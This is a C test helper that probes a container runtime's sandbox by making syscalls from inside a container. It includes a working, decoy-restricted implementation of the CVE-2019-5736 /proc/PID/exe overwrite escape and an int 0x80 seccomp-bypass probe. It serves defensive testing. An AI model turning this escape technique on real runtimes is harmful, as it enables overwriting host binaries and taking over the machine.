/* sysprobe: makes one syscall (or one attack step) and prints what happened,
 * for tests that run it inside a container (busybox has no keyctl, no raw
 * mount(2), no way to print its own capabilities after exec).
 *
 *   sysprobe keyctl             keyctl(KEYCTL_GET_KEYRING_ID, session)
 *   sysprobe unshare HEXFLAGS   unshare(flags)
 *   sysprobe mount              mount("none", "/mnt", "tmpfs", 0, "")
 *   sysprobe personality N      personality(N)
 *   sysprobe mkdir32 PATH       mkdir(PATH) through the i386 syscall entry (int 0x80)
 *   sysprobe kill PID SIG       kill(PID, SIG)
 *   sysprobe status             the Cap*, NoNewPrivs and Seccomp lines of /proc/self/status
 *   sysprobe fds                every open fd of this process with its target
 *   sysprobe open PATH MODE     open(PATH, r|w|path)
 *   sysprobe dumpable           prctl(PR_GET_DUMPABLE)
 *   sysprobe overwrite-exe SECS DIR DEV:INO...
 *                               for SECS seconds, opens /proc/PID/exe of every other
 *                               process O_PATH and tries to re-open it for writing
 *                               (CVE-2019-5736); writes a marker when it succeeds,
 *                               else prints how many processes refused the open.
 *                               Attacks only decoys: files under DIR (the kernel's
 *                               path of the handle) with one of the given
 *                               st_dev:st_ino (decimal, as `stat -c %d:%i` prints),
 *                               and memfds; prints "WOULD OVERWRITE PATH" for a
 *                               handle on anything else and leaves it alone
 *
 * A syscall result is printed as "ok <ret>" or "errno <n> <text>"; exit status 0
 * unless the usage is wrong (2). Standalone: plain libc only. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/magic.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int report(long rc)
{
	if (rc < 0)
		printf("errno %d %s\n", errno, strerror(errno));
	else
		printf("ok %ld\n", rc);
	return 0;
}

static int print_status(void)
{
	FILE *f = fopen("/proc/self/status", "re");
	if (!f)
		return report(-1);
	char line[512];
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
		    !strncmp(line, "Seccomp", 7) || !strncmp(line, "Uid", 3))
			fputs(line, stdout);
	fclose(f);
	return 0;
}

static int print_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return report(-1);
	int self = dirfd(d);
	struct dirent *de;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.' || atoi(de->d_name) == self)
			continue;
		char target[4096];
		ssize_t n = readlinkat(self, de->d_name, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = 0;
		printf("fd %s -> %s\n", de->d_name, target);
	}
	closedir(d);
	return 0;
}

/* The only files overwrite-exe may write: decoys the test made in its own
 * directory (named by the kernel's path of the handle AND by st_dev:st_ino,
 * so neither a same-named file elsewhere nor a hard link outside the dir
 * passes), and memfds (anonymous memory: writing one touches no file on the
 * machine; isorun's sealed copy of itself is one). Anything else it gets a
 * handle on is reported, never opened for writing: if a defence fails, the
 * test fails instead of the machine losing /usr/bin/dash (issue 10). */
struct decoys {
	const char *dir; /* absolute, no trailing slash */
	size_t dir_len;
	dev_t dev[8];
	ino_t ino[8];
	int n;
	dev_t memfd_dev; /* the kernel's internal shmem mount */
};

static int parse_decoys(struct decoys *d, const char *dir, int n, char **ids)
{
	d->dir = dir;
	d->dir_len = strlen(dir);
	while (d->dir_len > 1 && dir[d->dir_len - 1] == '/')
		d->dir_len--;
	if (dir[0] != '/' || d->dir_len < 2 || n < 1 || n > 8)
		return -1;
	for (d->n = 0; d->n < n; d->n++) {
		unsigned long long dev, ino;
		char end;
		if (sscanf(ids[d->n], "%llu:%llu%c", &dev, &ino, &end) != 2)
			return -1;
		d->dev[d->n] = (dev_t)dev;
		d->ino[d->n] = (ino_t)ino;
	}
	/* Without memfd_create (a profile may deny it) no memfd is a decoy. */
	d->memfd_dev = (dev_t)-1;
	int m = memfd_create("sysprobe-probe", MFD_CLOEXEC);
	struct stat st;
	if (m >= 0 && fstat(m, &st) == 0)
		d->memfd_dev = st.st_dev;
	if (m >= 0)
		close(m);
	return 0;
}

/* target: the kernel's name for the handle's file (its /proc/self/fd link). */
static bool may_write(const struct decoys *d, int fd, const char *target)
{
	struct stat st;
	if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode))
		return false;
	if (st.st_dev == d->memfd_dev && !strncmp(target, "/memfd:", 7))
		return true;
	/* A decoy seen through a detached overlayfs (the runtime's read-only
	 * view of itself, runc 1.2's defence): the kernel names it from the
	 * overlay's root, with the lower file's inode number. A write through
	 * an overlay never reaches a lower file (EROFS without an upper layer,
	 * else a copy-up), so this can damage no file of the machine's. */
	struct statfs sf;
	if (fstatfs(fd, &sf) == 0 && sf.f_type == OVERLAYFS_SUPER_MAGIC)
		for (int i = 0; i < d->n; i++)
			if (st.st_ino == d->ino[i])
				return true;
	if (strncmp(target, d->dir, d->dir_len) || target[d->dir_len] != '/' ||
	    strstr(target + d->dir_len, "/../"))
		return false;
	for (int i = 0; i < d->n; i++)
		if (st.st_dev == d->dev[i] && st.st_ino == d->ino[i])
			return true;
	return false;
}

static bool same_file(int a, int b)
{
	struct stat sa, sb;
	return fstat(a, &sa) == 0 && fstat(b, &sb) == 0 && sa.st_dev == sb.st_dev &&
	       sa.st_ino == sb.st_ino;
}

static bool seen_before(pid_t pid, const struct stat *st)
{
	static struct {
		pid_t pid;
		dev_t dev;
		ino_t ino;
	} seen[4096];
	static int n;
	for (int i = 0; i < n; i++)
		if (seen[i].pid == pid && seen[i].dev == st->st_dev && seen[i].ino == st->st_ino)
			return true;
	if (n < (int)(sizeof(seen) / sizeof(seen[0]))) {
		seen[n].pid = pid;
		seen[n].dev = st->st_dev;
		seen[n].ino = st->st_ino;
		n++;
	}
	return false;
}

/* The CVE-2019-5736 attack: get an O_PATH handle on another process' exe
 * while it is open, then re-open it for writing (fails with ETXTBSY while the
 * binary runs, succeeds once it exited unless the handle was refused). Only
 * decoys are attacked (see struct decoys); a handle on anything else is a
 * breach reported as "WOULD OVERWRITE <path>". */
static int overwrite_exe(int secs, const struct decoys *dec)
{
	pid_t me = getpid();
	time_t end = time(NULL) + secs;
	int handles[4096], nh = 0, opened = 0, denied = 0, last_denied = 0, foreign = 0;
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid <= 0 || pid == me)
				continue;
			char p[64];
			snprintf(p, sizeof(p), "/proc/%d/exe", pid);
			int fd = open(p, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				/* seen, but refused: the runtime is non-dumpable */
				if ((errno == EACCES || errno == EPERM) && pid != last_denied) {
					denied++;
					last_denied = pid;
				}
				continue;
			}
			/* what the handle holds (the process may have exec'd
			 * or exited since: ask the handle, not the pid) */
			char fdp[64], target[4096];
			snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", fd);
			ssize_t n = readlink(fdp, target, sizeof(target) - 1);
			target[n < 0 ? 0 : n] = 0;
			/* only binaries that are not the container's own */
			if (n <= 0 || strstr(target, "busybox") || strstr(target, "sysprobe") ||
			    nh >= (int)(sizeof(handles) / sizeof(handles[0]))) {
				close(fd);
				continue;
			}
			/* one report and one handle per process and file */
			struct stat st;
			if (fstat(fd, &st) < 0 || seen_before(pid, &st)) {
				close(fd);
				continue;
			}
			struct statfs sf;
			bool ovl = fstatfs(fd, &sf) == 0 && sf.f_type == OVERLAYFS_SUPER_MAGIC;
			printf("handle on /proc/%d/exe -> %s%s\n", pid, target,
			       ovl ? " (on an overlayfs)" : "");
			if (!may_write(dec, fd, target)) {
				printf("WOULD OVERWRITE %s (via /proc/%d/exe; not a decoy: not "
				       "attacked)\n",
				       target, pid);
				foreign++;
				close(fd);
				continue;
			}
			handles[nh++] = fd;
			opened++;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nh; i++) {
			char p[64];
			snprintf(p, sizeof(p), "/proc/self/fd/%d", handles[i]);
			/* no O_TRUNC: nothing changes until the opened file is
			 * shown to be the decoy the handle was */
			int w = open(p, O_WRONLY | O_CLOEXEC);
			if (w < 0)
				continue;
			if (!same_file(w, handles[i])) {
				printf("WOULD OVERWRITE %s (reopened as another file)\n", p);
				foreign++;
				close(w);
				continue;
			}
			if (ftruncate(w, 0) == 0 && write(w, "#!/bin/sh\necho PWNED\n", 21) == 21) {
				close(w);
				printf("OVERWROTE exe via handle %d\n", handles[i]);
				return 0;
			}
			close(w); /* a sealed memfd: write refused */
		}
	}
	printf("no overwrite (%d handles, %d processes refused, %d outside the decoys)\n", opened,
	       denied, foreign);
	return 0;
}

/* mkdir through the i386 entry point (int 0x80), which a seccomp filter sees
 * with AUDIT_ARCH_I386: what a multi-architecture profile is for. The path
 * must live below 4 GiB for the 32-bit ABI. Returns the raw kernel result. */
static long int80_mkdir(const char *path)
{
#if defined(__x86_64__)
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
		       -1, 0);
	if (p == MAP_FAILED)
		return -errno;
	snprintf(p, 4096, "%s", path);
	long ret;
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(39L), "b"(p), "c"(0755L)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
#else
	(void)path;
	return -ENOSYS;
#endif
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		goto usage;
	const char *cmd = argv[1];
	if (!strcmp(cmd, "keyctl"))
		return report(
		    syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	if (!strcmp(cmd, "unshare") && argc == 3)
		return report(unshare((int)strtol(argv[2], NULL, 16)));
	if (!strcmp(cmd, "mount"))
		return report(mount("none", "/mnt", "tmpfs", 0, ""));
	if (!strcmp(cmd, "personality") && argc == 3)
		return report(syscall(SYS_personality, strtoul(argv[2], NULL, 0)));
	if (!strcmp(cmd, "kill") && argc == 4)
		return report(kill(atoi(argv[2]), atoi(argv[3])));
	if (!strcmp(cmd, "mkdir32") && argc == 3) {
		long r = int80_mkdir(argv[2]);
		if (r < 0)
			errno = (int)-r;
		return report(r < 0 ? -1 : r);
	}
	if (!strcmp(cmd, "status"))
		return print_status();
	if (!strcmp(cmd, "fds"))
		return print_fds();
	if (!strcmp(cmd, "open") && argc == 4) {
		int fl = argv[3][0] == 'w' ? O_WRONLY : argv[3][0] == 'p' ? O_PATH : O_RDONLY;
		return report(open(argv[2], fl | O_CLOEXEC));
	}
	if (!strcmp(cmd, "dumpable"))
		return report(prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
	if (!strcmp(cmd, "overwrite-exe") && argc >= 5) {
		struct decoys d;
		if (parse_decoys(&d, argv[3], argc - 4, argv + 4) < 0) {
			fprintf(stderr, "sysprobe: overwrite-exe: bad decoy dir or DEV:INO\n");
			return 2;
		}
		return overwrite_exe(atoi(argv[2]), &d);
	}
usage:
	fprintf(stderr, "usage: sysprobe keyctl|unshare HEX|mount|personality N|kill PID SIG|"
			"mkdir32 PATH|status|fds|open PATH r|w|p|dumpable|"
			"overwrite-exe SECS DIR DEV:INO...\n");
	return 2;
}
